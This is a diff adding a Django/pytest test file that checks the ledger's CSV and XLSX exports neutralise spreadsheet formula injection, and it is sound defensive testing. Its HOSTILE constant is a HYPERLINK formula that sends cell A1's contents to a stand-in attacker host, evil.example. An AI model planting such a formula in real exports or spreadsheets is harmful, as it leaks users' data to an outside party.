@@ -1,0 +1,83 @@
+"""The 台账 exports never hand a spreadsheet a formula: a text starting with =, +, -, @ (or tab/CR) is
+written behind an apostrophe in CSV and as a typed string cell in the workbook, from the API and the admin."""
+
+import io
+import zipfile
+
+import openpyxl
+import pytest
+from django.urls import reverse
+from rest_framework.test import APIClient
+
+from ledger.exports import neutralised
+from ledger.models import Commitment
+
+pytestmark = pytest.mark.django_db
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+
+
+@pytest.fixture
+def hostile(seed_ledger):
+    """Two commitments of the seed report whose text and part a spreadsheet would run."""
+    first, second = seed_ledger.commitments.filter(testable=True).order_by("start")[:2]
+    Commitment.objects.filter(pk=first.pk).update(text=HOSTILE, part="+1+2")
+    Commitment.objects.filter(pk=second.pk).update(text="@SUM(1,2)", part="-3")
+    return seed_ledger
+
+
+@pytest.fixture
+def staff(django_user_model):
+    user = django_user_model.objects.create_superuser("boss", password="pw")
+    return user
+
+
+def _content(response):
+    assert response.status_code == 200, response.content
+    return b"".join(response.streaming_content) if response.streaming else response.content
+
+
+def _check_csv(content: bytes):
+    text = content.decode("utf-8-sig")
+    assert f"'{HOSTILE}".replace('"', '""') in text
+    assert "'@SUM(1,2)" in text and "'+1+2" in text and "'-3" in text
+    lines = text.splitlines()[1:]
+    # no cell of any row starts with a formula character
+    import csv
+
+    for row in csv.reader(lines):
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
+
+
+def _check_xlsx(content: bytes):
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
+    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+    cells = {cell.value: cell for row in sheet.iter_rows(min_row=2) for cell in row}
+    for value in (HOSTILE, "@SUM(1,2)", "+1+2", "-3"):
+        assert cells[value].data_type == "s", value
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_api_export_writes_no_formula(hostile, staff, fmt):
+    client = APIClient()
+    client.force_authenticate(staff)
+    content = _content(client.get(f"/api/v1/commitments/export/{fmt}/", {"report": hostile.pk}))
+    (_check_csv if fmt == "csv" else _check_xlsx)(content)
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_admin_export_writes_no_formula(hostile, staff, client, fmt):
+    client.force_login(staff)
+    content = _content(client.get(reverse("admin:ledger_commitment_export", args=[fmt]), {"report": hostile.pk}))
+    (_check_csv if fmt == "csv" else _check_xlsx)(content)
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [("=1+1", "'=1+1"), ("+86", "'+86"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
+     ("制定条例", "制定条例"), (3, 3), ("", "")],
+)
+def test_neutralised(value, expected):
+    assert neutralised(value) == expected
